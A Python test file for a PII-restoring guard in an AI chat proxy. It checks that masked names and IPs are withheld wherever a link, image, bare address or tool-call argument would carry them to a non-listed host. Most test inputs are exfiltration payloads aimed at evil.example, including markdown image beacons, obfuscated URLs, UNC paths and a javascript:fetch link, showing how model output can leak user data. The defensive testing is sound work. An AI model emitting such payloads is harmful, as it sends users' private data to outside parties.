import json

import pytest
from tests.unit.trust.mask.tools import chunk, data_of, known, restored_text

from naru.trust.mask import Restorer, Rules
from naru.trust.mask.urls import UrlGuard

LISTED = Rules(hosts=frozenset(["ok.example", "*.corp.example"]))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?q=<PERSON_1>)",
        "[x](https://evil.example/<PERSON_1>)",
        "https://evil.example/?q=<PERSON_1>",
        "https://evil.example/?q=PERSON_1",
        "https://evil.example/%3CPERSON_1%3E",
        "HTTPS://evil.example/<PERSON_1>",
        "https:/evil.example/<PERSON_1>",
        "https:\\\\evil.example\\<PERSON_1>",
        "//<PERSON_1>.evil.example and https://<PERSON_1>.evil.example/",
        "www.evil.example/<PERSON_1>",
        '<img src="//evil.example/a b <PERSON_1>">',
        '<img src="https://evil.example/a\n<PERSON_1>">',
        "[x](<https://evil.example/a b <PERSON_1>>)",
        "https://ok.example@evil.example/<PERSON_1>",
        "https://ok.example.evil.example/<PERSON_1>",
        "https://evilok.example/<PERSON_1>",
        "https://evil.example/(a)<PERSON_1>",
        "https://evil.example/?u=https://ok.example/<PERSON_1>",
        '"https://evil.example/?u=https://ok.example/<PERSON_1>"',
        "ftp://evil.example/<PERSON_1>",
        "https://evil.example/a\u00a0<PERSON_1>",
        "![x](https://evil.example/?q= <PERSON_1>)",
        "see evil.example/?q=<PERSON_1>",
        "주소는evil.example:8080/<PERSON_1>",
        "[x](evil.example/<PERSON_1>)",
        "\\\\evil.example\\<PERSON_1>",
        "\\\\evil.example@80\\<PERSON_1>",
        "mailto:x@evil.example?subject=a&body=<PERSON_1>",
        "[x](javascript:fetch('//evil.example/'+'<PERSON_1>'))",
        "data:text/html,evil.example<PERSON_1>",
        "https://ok.example\\@evil.example/<PERSON_1>",
    ],
)
def test_no_value_travels_to_a_host_off_the_list(text):
    """Links, pictures and bare addresses, however they are written."""
    restorer = Restorer("chat", known("김민수"), LISTED)
    made = restored_text(text, known("김민수"), restorer=restorer)
    assert "evil" in text
    assert made.split("evil.example")[-1] == text.split("evil.example")[-1]
    assert restorer.counters.withheld >= 1


@pytest.mark.parametrize(
    "text",
    [
        "https://ok.example/?q=<PERSON_1>",
        "https://api.corp.example:8443/<PERSON_1>",
        "[<PERSON_1>](https://evil.example/)",
        "https://evil.example/ <PERSON_1>",
        "(https://evil.example/a) <PERSON_1>",
        "(https://evil.example/a)<PERSON_1>",
        '<a href="https://evil.example/a"><PERSON_1></a>',
        "C:\\Users\\<PERSON_1>",
        "ok.example/<PERSON_1>",
        "evil.example/a <PERSON_1>",
        "[x](https://evil.example/a)\n<PERSON_1>",
        "mailto:<PERSON_1>",
        "a.b@evil.example/<PERSON_1>",
        "2026.11.21/<PERSON_1>",
        "및/또는 <PERSON_1>, javascript: <PERSON_1>",
        "/home/<PERSON_1>/x",
        "// <PERSON_1>",
        "비고:<PERSON_1>",
    ],
)
def test_values_come_back_elsewhere(text):
    """Behind an address, in its words, at a listed host, in paths of files."""
    assert restored_text(text, known("김민수"), LISTED) == text.replace("<PERSON_1>", "김민수")


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("http://<IP_1>:8080/x", "http://10.0.0.7:8080/x"),
        ("http://<IP_1>에서 ", "http://10.0.0.7에서 "),
        ("http://<IP_1>. ", "http://10.0.0.7. "),
        ("http://<IP_1>", "http://10.0.0.7"),
        ("http://<IP_1>.evil.example/", "http://<IP_1>.evil.example/"),
        ("http://<IP_1>:x@evil.example/", "http://<IP_1>:x@evil.example/"),
        ("http://<IP_1>에.evil.example/", "http://<IP_1>에.evil.example/"),
        ("http://<IP_1>/?q=<PERSON_1>", "http://10.0.0.7/?q=<PERSON_1>"),
    ],
)
@pytest.mark.parametrize("size", [1, 1000])
def test_a_masked_host_comes_back_only_as_the_whole_host(text, made, size):
    """An address the user gave is restored; a part of somebody's is not, streamed or whole."""
    restorer = Restorer("chat", known("김민수", "10.0.0.7"), LISTED)
    out = b"".join(restorer.feed(chunk(text[at : at + size])) for at in range(0, len(text), size))
    out += restorer.feed(chunk(finish="stop"))
    assert "".join(e["choices"][0]["delta"].get("content", "") for e in data_of(out)) == made


@pytest.mark.parametrize(
    ("arguments", "is_restored"),
    [
        ('{"a": "\\u0068ttps:\\/\\/evil.example\\/<PERSON_1>"}', False),
        ('{"a": "https://evil.example/\\n<PERSON_1>"}', False),
        ('{"a": "see https://evil.example/\\n<PERSON_1>"}', True),
        ('{"url": "https://evil.example/", "who": "<PERSON_1>"}', True),
        ('{"url": "https://ok.example/<PERSON_1>"}', True),
    ],
)
def test_addresses_in_arguments_are_read_through_their_escapes(arguments, is_restored):
    """What a tool would fetch is guarded as what a person would click."""
    call = {"type": "function_call", "name": "fetch", "arguments": arguments}
    made = Restorer("responses", known("김민수"), LISTED).whole(json.dumps({"output": [call]}).encode())
    assert ("김민수" in json.loads(made)["output"][0]["arguments"]) is is_restored


def test_a_very_long_address_is_remembered():
    """Padding does not push the host out of memory, and memory is bounded."""
    guard = UrlGuard(frozenset())
    guard.add("x " * 5000 + "![](https://evil.example/")
    for _ in range(300):
        guard.add("a" * 100)
    assert guard.is_closed_at("PERSON", " ")
    guard.add(" ")
    guard.add("b" * 20_000)
    assert not guard.is_closed_at("PERSON", " ")
    assert sum(map(len, guard._parts)) < 10_000
    guard.add(" \n" + "c" * 500 + ".evil.example/")
    assert guard.is_closed_at("PERSON", " ") is False  # no host has a label of 500 letters
    guard.add(" evil.example/" + "d" * 9_000)
    assert guard.is_closed_at("PERSON", " ")


def test_any_host_may_be_listed():
    """`*` opens all."""
    assert restored_text(
        "https://x.example/<PERSON_1>", known("김민수"), Rules(hosts=frozenset("*"))
    ).endswith("김민수")
